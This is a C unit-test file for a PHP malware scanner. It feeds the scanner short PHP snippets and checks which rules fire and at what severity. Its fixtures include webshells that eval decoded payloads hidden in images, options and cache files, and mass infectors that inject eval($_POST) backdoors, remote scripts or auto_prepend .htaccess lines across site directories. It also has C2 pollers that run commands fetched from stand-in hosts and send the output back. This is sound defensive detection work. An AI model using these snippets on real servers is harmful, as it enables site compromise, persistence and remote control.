/* The PHP analysis, round 4 of the payload techniques: a payload kept in a
 * second file (a cache, an icon, a .dat, an option) that its loader decodes
 * and runs; code read from a picture's metadata or after an offset in it;
 * a script that walks the directories and writes code into the files it
 * finds (a mass infector); a command fetched from a URL or a socket and
 * run (an HTTP poller). And what real applications do with the same
 * functions, which must stay below high: a file decoding a payload from
 * itself (medium by design), a template cache, a plugin reading its own
 * config, a translation loader, an image shown inline, a cache unserialized,
 * a URL migration over every file, a cache warmer, a directory guard.
 * Every snippet is written here from the technique, not from a sample. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "php_expect.h"
#include "scan/php_analyze.h"

/* only medium (or nothing) from rule, and nothing high at all */
static void medium_only(const char *src, const char *rule)
{
	not_high(src);
	const struct php_hit *h = find(rule);
	if (!h)
		fprintf(stderr, "missing %s in: %s\n", rule, src);
	assert_non_null(h);
	assert_int_equal(h->sev, HS_SEV_MEDIUM);
}

/* Decoded data read from another file, then run: the payload kept beside
 * its loader (an .ico, a .dat, a .css) or in a store it shares with the
 * file that wrote it. */
static void test_second_file_decoded(void **state)
{
	(void)state;
	expect("<?php $p = file_get_contents(__DIR__ . '/favicon.ico');\n"
	       "eval(gzinflate(base64_decode($p)));",
	       "php.asset_payload_eval", HS_SEV_HIGH);
	expect("<?php $p = file_get_contents(__DIR__ . '/assets/theme.min.css');\n"
	       "eval(gzinflate(base64_decode(substr($p, strrpos($p, '/*@') + 3))));",
	       "php.asset_payload_eval", HS_SEV_HIGH);
	expect("<?php $d = @file_get_contents(dirname(__FILE__) . '/.htcache');\n"
	       "if ($d) { $f = base64_decode(strrev($d)); eval($f); }",
	       "php.decoded_file_eval", HS_SEV_HIGH);
	expect("<?php $h = fopen('uploads/.wp-9a1f', 'r'); $c = fread($h, 99999);\n"
	       "assert(str_rot13(base64_decode($c)));",
	       "php.decoded_file_eval", HS_SEV_HIGH);
	/* a name built from this file's name is another file */
	expect("<?php $s = __DIR__ . '/' . basename(__FILE__, '.php') . '.cache';\n"
	       "eval(gzuncompress(base64_decode(file_get_contents($s))));",
	       "php.decoded_file_eval", HS_SEV_HIGH);
	/* found by glob, read whole with file() */
	expect("<?php foreach (glob(__DIR__ . '/*.png') as $i) {\n"
	       "  $l = file($i); eval(base64_decode(substr(implode('', $l), 120))); }",
	       "php.decoded_file_eval", HS_SEV_HIGH);
	/* the handle read with stream_get_contents, run through create_function */
	expect("<?php $h = fopen(sys_get_temp_dir() . '/.sess_9f', 'rb');\n"
	       "$f = create_function('', base64_decode(stream_get_contents($h))); $f();",
	       "php.decoded_file_eval", HS_SEV_HIGH);
	/* kept in an option, a transient or the session by the writer */
	expect("<?php $o = get_option('wp_cache_blob'); if ($o) { eval(base64_decode($o)); }",
	       "php.decoded_file_eval", HS_SEV_HIGH);
	expect("<?php add_action('init', function () { $t = get_transient('_site_meta');\n"
	       "if ($t !== false) { eval(gzinflate(base64_decode($t))); } });",
	       "php.decoded_file_eval", HS_SEV_HIGH);
	expect("<?php session_start(); if (!empty($_SESSION['q'])) "
	       "eval(str_rot13(base64_decode($_SESSION['q'])));",
	       "php.decoded_file_eval", HS_SEV_HIGH);
	/* a serialized store: an element of what unserialize() gives */
	expect("<?php $c = unserialize(file_get_contents(__DIR__ . '/cache/.meta'));\n"
	       "eval(base64_decode($c['body']));",
	       "php.decoded_file_eval", HS_SEV_HIGH);
	/* a data blob (.dat, .bin) is an asset: code in one is run as it is */
	expect("<?php $d = file_get_contents(__DIR__ . '/.cache.dat'); eval($d);",
	       "php.asset_payload_eval", HS_SEV_HIGH);
	/* decrypted with a key, or XORed one character after another */
	expect("<?php $d = file_get_contents('/tmp/.sess_x');\n"
	       "eval(openssl_decrypt($d, 'aes-128-cbc', 'k3y', 0, '1234567890123456'));",
	       "php.decoded_file_eval", HS_SEV_HIGH);
	expect("<?php $d = file_get_contents(__DIR__ . '/.htcache'); $k = 'q7'; $o = '';\n"
	       "for ($i = 0; $i < strlen($d); $i++) { $o .= chr(ord($d[$i]) ^ ord($k[$i % 2])); }\n"
	       "eval($o);",
	       "php.decoded_file_eval", HS_SEV_HIGH);
	/* a decoded value that is not from a file stays medium */
	run("<?php eval(base64_decode($undefined_thing));");
	assert_null(find("php.decoded_file_eval"));
}

/* A file that decodes a payload from itself is php.obfuscated_eval, medium
 * by design: the payload is in the file, and the rules see the layer when
 * it can be folded. Its own name, however it is written, is itself. */
static void test_self_read_stays_medium(void **state)
{
	(void)state;
	medium_only("<?php $d = file_get_contents(__FILE__); "
	            "eval(gzinflate(base64_decode(substr($d, 9))));",
	            "php.obfuscated_eval");
	medium_only("<?php $h = fopen(__FILE__, 'r'); fseek($h, __COMPILER_HALT_OFFSET__);\n"
	            "eval(base64_decode(stream_get_contents($h))); __halt_compiler();QUJD",
	            "php.obfuscated_eval");
	medium_only("<?php $d = file_get_contents($_SERVER['SCRIPT_FILENAME']);\n"
	            "eval(base64_decode(substr($d, strpos($d, '#@') + 2)));",
	            "php.obfuscated_eval");
	medium_only("<?php $me = __DIR__ . '/' . basename(__FILE__);\n"
	            "eval(gzinflate(base64_decode(substr(file_get_contents($me), -2048))));",
	            "php.obfuscated_eval");
	medium_only("<?php $me = dirname(__FILE__) . DIRECTORY_SEPARATOR . basename(__FILE__);\n"
	            "$l = file($me); eval(base64_decode(end($l)));",
	            "php.obfuscated_eval");
}

/* Code read from a picture: its metadata (EXIF, IPTC in the APP13
 * segment) or its bytes after an offset, run as code, decoded or not. */
static void test_image_payload(void **state)
{
	(void)state;
	expect(
	    "<?php $e = exif_read_data(__DIR__ . '/logo.jpg'); eval(base64_decode($e['Model']));",
	    "php.asset_payload_eval", HS_SEV_HIGH);
	expect("<?php $e = @exif_read_data('img/header.jpg');\n"
	       "preg_replace($e['Make'], $e['Model'], '');\n"
	       "eval($e['COMPUTED']['UserComment']);",
	       "php.asset_payload_eval", HS_SEV_HIGH);
	expect("<?php getimagesize(__DIR__ . '/bg.jpg', $info);\n"
	       "$i = iptcparse($info['APP13']); eval($i['2#120'][0]);",
	       "php.asset_payload_eval", HS_SEV_HIGH);
	expect("<?php $d = file_get_contents(__DIR__ . '/assets/logo.png');\n"
	       "eval(substr($d, 3242));",
	       "php.asset_payload_eval", HS_SEV_HIGH);
	expect("<?php $f = fopen('wp-content/uploads/2024/03/cat.gif', 'rb'); fseek($f, 64);\n"
	       "$x = fread($f, 8192); assert($x);",
	       "php.asset_payload_eval", HS_SEV_HIGH);
	/* a picture's metadata shown on a page is what galleries do */
	quiet("<?php $e = exif_read_data($path); echo htmlspecialchars($e['Model'] ?? '');\n"
	      "getimagesize($path, $info); if (isset($info['APP13'])) { $i = "
	      "iptcparse($info['APP13']);"
	      " echo $i['2#005'][0]; }");
	/* an image shown inline, as a data: URL */
	quiet("<?php $png = file_get_contents(__DIR__ . '/logo.png');\n"
	      "echo '<img src=\"data:image/png;base64,' . base64_encode($png) . '\">';");
}

/* The writer of a two-file pair, a sample of its own: code it decoded
 * (no open tag: the reader evals it) stored in a file, an option or a
 * transient, maybe base64_encode()d again; decoded data that is not code
 * (settings, a style sheet) is not that. */
static void test_store_writer(void **state)
{
	(void)state;
	expect("<?php $b = base64_decode('QHN5c3RlbSgkX0dFVFsnY21kJ10pOw==');\n"
	       "set_transient('feed_x', $b, 3600);",
	       "php.stored_code_drop", HS_SEV_HIGH);
	expect(
	    "<?php $c = gzinflate(base64_decode('y0zTyCwuTi3RUIkP8A8OiVbPVo/V1KxOLUvMQRGyrgUA'));\n"
	    "@file_put_contents(__DIR__ . '/.cache.dat', base64_encode($c));",
	    "php.stored_code_drop", HS_SEV_HIGH);
	expect("<?php update_option('_site_k', "
	       "str_rot13(str_rot13(base64_decode('QHN5c3RlbSgkX0dFVFsnY21kJ10pOw=='))));",
	       "php.stored_code_drop", HS_SEV_HIGH);
	quiet("<?php update_option('acme_defaults', "
	      "base64_decode('eyJjb2xvciI6InJlZCIsInNpemUiOjEyfQ=='));");
	quiet("<?php set_transient('acme_css', "
	      "base64_decode('Ym9keXtjb2xvcjpyZWR9IC54e2Rpc3BsYXk6bm9uZX0='), 600);");
}

/* An include of a catalogue, a font or a data blob is code hidden where
 * nobody reads code (medium, as an included picture is); a template that
 * includes its compiled .php is not. */
static void test_include_blob(void **state)
{
	(void)state;
	expect("<?php include __DIR__ . '/languages/de_DE.po';", "php.include_nonphp",
	       HS_SEV_MEDIUM);
	expect("<?php @require_once $dir . '/fonts/icons.woff';", "php.include_nonphp",
	       HS_SEV_MEDIUM);
	quiet("<?php include __DIR__ . '/cache/' . md5('home') . '.php';");
	/* a cache of var_export()ed PHP (cacti's mibcache.tmp) */
	quiet("<?php $c = $base . '/cache/mibcache/mibcache.tmp'; include($c);");
}

/* What applications read from their files and never run. */
static void test_benign_readers(void **state)
{
	(void)state;
	/* a template cache runs the .php it compiled, as it is */
	quiet("<?php $c = __DIR__ . '/cache/' . md5($tpl) . '.php';\n"
	      "if (is_file($c)) { include $c; } else { $php = compile($tpl);"
	      " file_put_contents($c, $php); include $c; }");
	quiet("<?php $tpl = file_get_contents('cache/compiled.php'); eval('?>' . $tpl);");
	/* a plugin's own config */
	quiet("<?php $cfg = json_decode(file_get_contents(__DIR__ . '/config.json'), true);\n"
	      "define('ACME_VER', $cfg['version']);");
	/* a translation loader parses .mo files, it runs nothing */
	quiet("<?php $mo = file_get_contents($dir . '/de_DE.mo');\n"
	      "$h = unpack('V7', substr($mo, 0, 28)); $n = $h[3];\n"
	      "for ($i = 0; $i < $n; $i++) { $o = unpack('V2', substr($mo, $h[4] + $i * 8, 8)); "
	      "$msgs[] = substr($mo, $o[2], $o[1]); }");
	/* a cache unserialized */
	quiet("<?php $f = WP_CONTENT_DIR . '/cache/acme.ser';\n"
	      "$data = is_file($f) ? unserialize(file_get_contents($f)) : array();\n"
	      "echo count($data);");
	/* an option decoded for display */
	quiet("<?php $logo = base64_decode(get_option('acme_logo_b64'));\n"
	      "header('Content-Type: image/png'); echo $logo;");
}

/* A script that walks directories and writes code into what it finds. */
static void test_mass_infector(void **state)
{
	(void)state;
	expect("<?php $code = '<?php @eval($_POST[\"x\"]); ?>';\n"
	       "function walk($d, $code) { foreach (scandir($d) as $f) {\n"
	       "  if ($f == '.' || $f == '..') continue; $p = $d . '/' . $f;\n"
	       "  if (is_dir($p)) walk($p, $code);\n"
	       "  elseif (substr($f, -4) == '.php') { $t = filemtime($p);\n"
	       "    file_put_contents($p, $code . file_get_contents($p)); touch($p, $t); } } }\n"
	       "walk($_SERVER['DOCUMENT_ROOT'], $code);",
	       "php.mass_infector", HS_SEV_HIGH);
	/* a <script> put before </body> of every index.php under /home */
	expect("<?php $js = '<script src=\"https://cdn.example.org/x.js\"></script>';\n"
	       "$it = new RecursiveIteratorIterator(new RecursiveDirectoryIterator('/home'));\n"
	       "foreach ($it as $f) { if ($f->getFilename() == 'index.php') {\n"
	       "  $c = file_get_contents($f->getPathname());\n"
	       "  $c = str_replace('</body>', $js . '</body>', $c);\n"
	       "  file_put_contents($f->getPathname(), $c); } }",
	       "php.mass_infector", HS_SEV_HIGH);
	/* code appended through a handle opened to append, on a glob */
	expect("<?php $x = base64_decode('PD9waHAgZXZhbCgkX1JFUVVFU1RbJ3EnXSk7ID8+');\n"
	       "foreach (glob('../*/wp-config.php') as $w) { $h = fopen($w, 'a'); "
	       "fwrite($h, $x); fclose($h); }",
	       "php.mass_infector", HS_SEV_HIGH);
	/* found by find(1), code after the open tag of each file */
	expect("<?php $l = explode(\"\\n\", shell_exec('find /var/www -name \"*.php\"'));\n"
	       "$inj = 'if(isset($_COOKIE[\"k\"])){eval(base64_decode($_COOKIE[\"k\"]));}';\n"
	       "foreach ($l as $f) { if (!$f) continue; $s = file_get_contents($f);\n"
	       "  $s = str_replace('<?php', '<?php ' . $inj, $s); @chmod($f, 0644);\n"
	       "  file_put_contents($f, $s); }",
	       "php.mass_infector", HS_SEV_HIGH);
	/* a .htaccess in every directory opendir() finds */
	expect("<?php function h($d) { $dh = opendir($d);\n"
	       "  while (($e = readdir($dh)) !== false) { if ($e[0] == '.') continue;\n"
	       "    if (is_dir(\"$d/$e\")) { file_put_contents(\"$d/$e/.htaccess\",\n"
	       "      \"php_value auto_prepend_file /tmp/.x.ico\\n\"); h(\"$d/$e\"); } } }\n"
	       "h(getcwd());",
	       "php.mass_infector", HS_SEV_HIGH);
	/* a copy of itself put into every .php file found */
	expect(
	    "<?php $me = file_get_contents(__FILE__);\n"
	    "foreach (new RecursiveIteratorIterator(new RecursiveDirectoryIterator('.')) as $f) {\n"
	    "  if (substr($f, -4) === '.php' && realpath($f) != __FILE__) {\n"
	    "    file_put_contents($f, $me . file_get_contents($f)); } }",
	    "php.mass_infector", HS_SEV_HIGH);
}

/* What a deploy tool, a search-and-replace plugin or a cache warmer does
 * over a directory walk: fixed non-code text written, or nothing. */
static void test_infector_lookalikes(void **state)
{
	(void)state;
	/* a URL migration over every file */
	not_high(
	    "<?php $it = new RecursiveIteratorIterator(new RecursiveDirectoryIterator($root));\n"
	    "foreach ($it as $f) { if (substr($f, -5) !== '.html') continue;\n"
	    "  $c = file_get_contents($f);\n"
	    "  $c = str_replace('http://old.example.com', 'https://www.example.com', $c);\n"
	    "  file_put_contents($f, $c); }");
	/* a directory guard: an index.php that says nothing, a deny rule */
	not_high(
	    "<?php foreach (glob(WP_CONTENT_DIR . '/uploads/*', GLOB_ONLYDIR) as $d) {\n"
	    "  if (!file_exists($d . '/index.php')) file_put_contents($d . '/index.php',"
	    " \"<?php\\n// Silence is golden.\\n\");\n"
	    "  file_put_contents($d . '/.htaccess', \"Options -Indexes\\nDeny from all\\n\"); }");
	/* a cache warmer: fetches every page, writes nothing */
	quiet("<?php foreach (glob(__DIR__ . '/pages/*.md') as $p) {\n"
	      "  $u = 'https://example.com/' . basename($p, '.md');\n"
	      "  file_get_contents($u); }");
	/* a deploy step copying the built files */
	quiet("<?php foreach (scandir('build') as $f) { if ($f[0] == '.') continue;\n"
	      "  copy('build/' . $f, '/var/www/html/' . $f); }");
	/* a sitemap written once, from a walk */
	quiet("<?php $x = '<?xml version=\"1.0\"?><urlset>';\n"
	      "foreach (glob('*.html') as $f) $x .= '<url><loc>https://example.com/' . $f . "
	      "'</loc></url>';\n"
	      "file_put_contents('sitemap.xml', $x . '</urlset>');");
}

/* A command fetched from a URL or read from a connection, then run:
 * download-and-execute, the HTTP C2 poller. */
static void test_remote_commands(void **state)
{
	(void)state;
	expect("<?php $c = file_get_contents('https://c2.example.net/task'); echo shell_exec($c);",
	       "php.remote_command", HS_SEV_HIGH);
	expect("<?php while (true) { sleep(30);\n"
	       "  $cmd = @file_get_contents('http://198.51.100.7/c.txt');\n"
	       "  if ($cmd) { $o = shell_exec($cmd);\n"
	       "    file_get_contents('http://198.51.100.7/r?o=' . urlencode($o)); } }",
	       "php.remote_command", HS_SEV_HIGH);
	expect("<?php $s = fsockopen('198.51.100.7', 443);\n"
	       "while (!feof($s)) { $l = fgets($s); system(trim($l)); }",
	       "php.remote_command", HS_SEV_HIGH);
	expect("<?php $ch = curl_init('http://203.0.113.9/q'); "
	       "curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n"
	       "$t = json_decode(curl_exec($ch), true); if ($t['cmd']) { exec($t['cmd'], $out); }",
	       "php.remote_command", HS_SEV_HIGH);
	expect("<?php $r = wp_remote_get('https://updates.example.org/ping');\n"
	       "passthru(wp_remote_retrieve_body($r));",
	       "php.remote_command", HS_SEV_HIGH);
	expect("<?php $s = stream_socket_client('tcp://198.51.100.7:8080');\n"
	       "$p = proc_open(base64_decode(stream_get_contents($s)), [1 => ['pipe', 'w']], $pp);",
	       "php.remote_command", HS_SEV_HIGH);
	/* a fixed program whose argument is fetched is not a downloaded shell */
	not_high("<?php $v = trim(file_get_contents('https://api.example.org/latest'));\n"
	         "exec('git -C /srv/app checkout ' . escapeshellarg($v));");
	/* an updater: fetched data is written to a zip and unpacked */
	quiet("<?php $z = file_get_contents('https://downloads.example.org/app.zip');\n"
	      "file_put_contents('/tmp/app.zip', $z); exec('unzip -o /tmp/app.zip -d /srv/app');");
}

/* The same techniques through php_analyze(), the pipeline's entry point:
 * whatever gate decides there that a file cannot produce a finding must
 * let these through. */
static void test_through_analyze(void **state)
{
	(void)state;
	static const char *const srcs[][2] = {
	    {"<?php $e = exif_read_data('a.jpg'); eval($e['Model']);", "php.asset_payload_eval"},
	    {"<?php $o = get_transient('x'); eval(base64_decode($o));", "php.decoded_file_eval"},
	    {"<?php $s = fsockopen('198.51.100.7', 80); system(fgets($s));", "php.remote_command"},
	    {"<?php foreach (glob('*/index.php') as $f) file_put_contents($f, '<script "
	     "src=https://x.example/a.js></script>' . "
	     "file_get_contents($f));",
	     "php.mass_infector"},
	};
	for (size_t i = 0; i < sizeof(srcs) / sizeof(srcs[0]); i++) {
		php_result_free(&res);
		assert_true(php_analyze((const unsigned char *)srcs[i][0], strlen(srcs[i][0]),
		                        "php", &res));
		const struct php_hit *h = find(srcs[i][1]);
		if (!h)
			fprintf(stderr, "missing %s through php_analyze: %s\n", srcs[i][1],
			        srcs[i][0]);
		assert_non_null(h);
		assert_true(h->sev >= HS_SEV_HIGH);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_second_file_decoded),
	    cmocka_unit_test(test_self_read_stays_medium),
	    cmocka_unit_test(test_image_payload),
	    cmocka_unit_test(test_benign_readers),
	    cmocka_unit_test(test_mass_infector),
	    cmocka_unit_test(test_infector_lookalikes),
	    cmocka_unit_test(test_remote_commands),
	    cmocka_unit_test(test_through_analyze),
	    cmocka_unit_test(test_store_writer),
	    cmocka_unit_test(test_include_blob),
	};
	int rc = cmocka_run_group_tests(tests, NULL, NULL);
	php_result_free(&res);
	return rc;
}
